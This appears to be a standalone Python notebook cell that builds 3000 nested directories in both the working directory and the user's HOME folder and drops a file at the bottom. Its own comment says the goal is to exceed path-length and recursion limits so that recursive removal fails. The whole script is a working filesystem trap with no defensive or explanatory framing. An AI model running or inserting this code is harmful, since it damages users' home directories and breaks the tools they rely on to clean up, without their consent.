# %%
import os

# Deeper than any path may be long, and than a program may recurse: whoever removes it by recursion dies of it.
here = os.getcwd()
for folder in {here, os.environ["HOME"]}:
    os.chdir(folder)
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    with open("at-the-bottom", "w") as file:
        file.write("nobody reads this")
    os.chdir(here)
print("folders in each other: 3000")
